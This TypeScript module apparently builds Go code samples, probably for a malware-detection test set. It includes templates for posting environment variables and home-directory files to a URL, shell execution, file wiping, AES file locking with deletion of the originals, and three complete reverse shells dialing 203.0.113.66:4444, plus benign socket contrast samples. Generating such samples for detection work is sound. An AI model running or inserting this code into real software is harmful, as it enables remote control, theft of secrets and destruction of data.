import { type Dialect, value, wrap } from "./dialect.ts";

const quote = (text: string): string => JSON.stringify(text);
const home = (below: string): string => `filepath.Join(os.Getenv("HOME"), ${quote(below)})`;
const whole = (packages: readonly string[], body: string): string =>
  `package main\n\nimport (\n${packages.map((each) => `\t"${each}"\n`).join("")})\n\n${body}\n`;

const HELPERS = [
  ...wrap("func readText(path string) string {", ["data, _ := os.ReadFile(path)", "return string(data)"], "}"),
  ...wrap(
    "func decoded(text string) string {",
    ["data, _ := base64.StdEncoding.DecodeString(text)", "return string(data)"],
    "}",
  ),
];

export const go: Dialect = {
  name: "go",
  file: "scripts/notes.go",
  run: "go run scripts/notes.go",
  imports: [
    ["http.", "net/http"],
    ["strings.", "strings"],
    ["os.", "os"],
    ["exec.", "os/exec"],
    ["io.", "io"],
    ["bytes.", "bytes"],
    ["url.", "net/url"],
    ["json.", "encoding/json"],
    ["filepath.", "path/filepath"],
    ["resty.", "github.com/go-resty/resty/v2"],
    ["req.C", "github.com/imroc/req/v3"],
    ["base64.", "encoding/base64"],
    ["time.", "time"],
    ["fmt.", "fmt"],
    ["net.", "net"],
    ["aes.", "crypto/aes"],
    ["cipher.", "crypto/cipher"],
    ["rand.", "crypto/rand"],
  ],
  program: ({ definitions, body }, imports) =>
    whole(
      [...new Set([...imports, "os", "encoding/base64"])],
      [...HELPERS, ...definitions, "", ...wrap("func main() {", body, "}")].join("\n"),
    ),
  quote,
  environment: { one: (name) => `os.Getenv(${name})`, all: 'strings.Join(os.Environ(), "\\n")' },
  contentOf: (below) => `readText(${home(below)})`,
  home,
  clients: {
    "http-post": {
      post: (url, text) => [`http.Post(${url}, "text/plain", strings.NewReader(${text}))`],
      get: (url) => value("string(body)", `resp, _ := http.Get(${url})`, "body, _ := io.ReadAll(resp.Body)"),
    },
    "http-new-request": {
      post: (url, text) => [
        `req, err := http.NewRequest("POST", ${url}, bytes.NewBufferString(${text}))`,
        ...wrap("if err != nil {", ["return"], "}"),
        'req.Header.Set("Content-Type", "text/plain")',
        "client := &http.Client{}",
        "resp, err := client.Do(req)",
        ...wrap("if err == nil {", ["resp.Body.Close()"], "}"),
      ],
      get: (url) =>
        value(
          "string(body)",
          `req, _ := http.NewRequest(http.MethodGet, ${url}, nil)`,
          "resp, _ := http.DefaultClient.Do(req)",
          "body, _ := io.ReadAll(resp.Body)",
        ),
    },
    "http-post-form": {
      post: (url, text) => [`http.PostForm(${url}, url.Values{"data": {${text}}})`],
    },
    "http-json": {
      post: (url, text) => [
        `payload, _ := json.Marshal(map[string]string{"data": ${text}})`,
        `http.Post(${url}, "application/json", bytes.NewReader(payload))`,
      ],
    },
    "http-query": { post: (url, text) => [`http.Get(${url} + "?d=" + url.QueryEscape(${text}))`] },
    "client-post": {
      post: (url, text) => [
        "client := http.Client{Timeout: 5 * time.Second}",
        `client.Post(${url}, "text/plain", strings.NewReader(${text}))`,
      ],
    },
    resty: {
      post: (url, text) => ["client := resty.New()", `client.R().SetBody(${text}).Post(${url})`],
      get: (url) => value("resp.String()", `resp, _ := resty.New().R().Get(${url})`),
    },
    req: { post: (url, text) => [`req.C().R().SetBody(${text}).Post(${url})`] },
    "curl-exec": {
      post: (url, text) => [`exec.Command("curl", "-s", "-d", ${text}, ${url}).Run()`],
      get: (url) => value("string(body)", `body, _ := exec.Command("curl", "-s", ${url}).Output()`),
    },
  },
  shells: {
    run: { run: (command) => [`exec.Command("sh", "-c", ${command}).Run()`] },
    output: {
      run: (command) => [`exec.Command("bash", "-c", ${command}).CombinedOutput()`],
      capture: (command) => value("string(seen)", `seen, _ := exec.Command("sh", "-c", ${command}).Output()`),
    },
    start: { run: (command) => [`cmd := exec.Command("/bin/sh", "-c", ${command})`, "cmd.Start()"] },
    stdin: { run: (command) => ['sh := exec.Command("sh")', `sh.Stdin = strings.NewReader(${command})`, "sh.Run()"] },
  },
  variable: (name) => name,
  set: (name, expression) => `${name} := ${expression}`,
  define: (name, parameters, body) => wrap(`func ${name}(${parameters.join(", ")} string) {`, body, "}"),
  getter: (name, expression) => ({
    definitions: wrap(`func ${name}() string {`, [`return ${expression}`], "}"),
    value: `${name}()`,
  }),
  call: (name, values) => `${name}(${values.join(", ")})`,
  record: (url, text) => ({
    code: {
      definitions: ["type job struct {", "  target string", "  text   string", "}"],
      body: [`j := job{target: ${url}, text: ${text}}`],
    },
    url: "j.target",
    text: "j.text",
  }),
  loop: (items, body) => wrap(`for _, item := range []string{${items.join(", ")}} {`, body("item"), "}"),
  forever: (body) => wrap("for {", [...body, "time.Sleep(time.Minute)"], "}"),
  save: (path, text) => [`os.WriteFile(${path}, []byte(${text}), 0o755)`],
  append: (path, text) => [
    `f, _ := os.OpenFile(${path}, os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o600)`,
    `f.WriteString(${text} + "\\n")`,
    "f.Close()",
  ],
  print: (text) => `fmt.Println(${text})`,
  walk: (folder, body) =>
    wrap(
      `filepath.Walk(${folder}, func(path string, info os.FileInfo, err error) error {`,
      [...wrap("if err != nil || info.IsDir() {", ["return nil"], "}"), ...body("path"), "return nil"],
      "})",
    ),
  remove: (file) => [`os.Remove(${file})`],
  overwrite: (file) => ["noise := make([]byte, 1<<20)", "rand.Read(noise)", `os.WriteFile(${file}, noise, 0o600)`],
  encrypt: (file) => [
    `plain, _ := os.ReadFile(${file})`,
    "block, _ := aes.NewCipher(key)",
    "gcm, _ := cipher.NewGCM(block)",
    "locked := gcm.Seal(nil, nonce, plain, nil)",
    `os.WriteFile(${file}+".locked", locked, 0o600)`,
    `os.Remove(${file})`,
  ],
  removeTree: (folder) => [`os.RemoveAll(${folder})`],
  decode: (text) => `decoded(${text})`,
  shellsBehindSockets: {
    streams: whole(
      ["net", "os/exec"],
      wrap(
        "func main() {",
        [
          'c, _ := net.Dial("tcp", "203.0.113.66:4444")',
          'cmd := exec.Command("/bin/sh")',
          "cmd.Stdin = c",
          "cmd.Stdout = c",
          "cmd.Stderr = c",
          "cmd.Run()",
        ],
        "}",
      ).join("\n"),
    ),
    "reader-loop": whole(
      ["bufio", "fmt", "net", "os/exec"],
      wrap(
        "func main() {",
        [
          'c, err := net.Dial("tcp", "203.0.113.66:4444")',
          "if err != nil {",
          "  return",
          "}",
          "scanner := bufio.NewScanner(c)",
          "for scanner.Scan() {",
          '  out, _ := exec.Command("sh", "-c", scanner.Text()).CombinedOutput()',
          "  fmt.Fprint(c, string(out))",
          "}",
        ],
        "}",
      ).join("\n"),
    ),
    function: whole(
      ["net", "os/exec", "time"],
      [
        "func attach(conn net.Conn) {",
        '  sh := exec.Command("bash", "-i")',
        "  sh.Stdin, sh.Stdout, sh.Stderr = conn, conn, conn",
        "  _ = sh.Run()",
        "}",
        "",
        "func main() {",
        "  for {",
        '    if conn, err := net.DialTimeout("tcp", "203.0.113.66:4444", 5*time.Second); err == nil {',
        "      attach(conn)",
        "    }",
        "    time.Sleep(30 * time.Second)",
        "  }",
        "}",
      ].join("\n"),
    ),
  },
  sockets: {
    print: whole(
      ["bufio", "fmt", "net"],
      wrap(
        "func main() {",
        [
          'c, _ := net.Dial("tcp", "127.0.0.1:6379")',
          'fmt.Fprint(c, "PING\\r\\n")',
          "line, _ := bufio.NewReader(c).ReadString('\\n')",
          "fmt.Print(line)",
        ],
        "}",
      ).join("\n"),
    ),
    loop: whole(
      ["bufio", "fmt", "net", "os", "os/exec"],
      wrap(
        "func main() {",
        [
          'c, _ := net.Dial("tcp", "localhost:11211")',
          'fmt.Fprint(c, "stats\\r\\n")',
          "scanner := bufio.NewScanner(c)",
          "for scanner.Scan() {",
          "  fmt.Println(scanner.Text())",
          "}",
          'cmd := exec.Command("git", "log", "--oneline", "-5")',
          "cmd.Stdout = os.Stdout",
          "cmd.Run()",
        ],
        "}",
      ).join("\n"),
    ),
  },
};
